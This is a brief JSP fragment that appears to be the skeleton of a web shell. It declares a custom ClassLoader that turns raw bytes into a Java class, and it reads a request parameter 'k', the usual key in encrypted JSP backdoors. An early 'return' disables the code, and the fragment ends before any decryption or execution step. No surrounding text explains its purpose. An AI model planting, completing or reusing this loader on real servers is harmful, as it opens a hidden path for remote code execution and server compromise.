<% if (true) return; %>
<%! class U extends ClassLoader { U(ClassLoader c) { super(c); } Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } %>
<% String k = request.getParameter("k"); %>
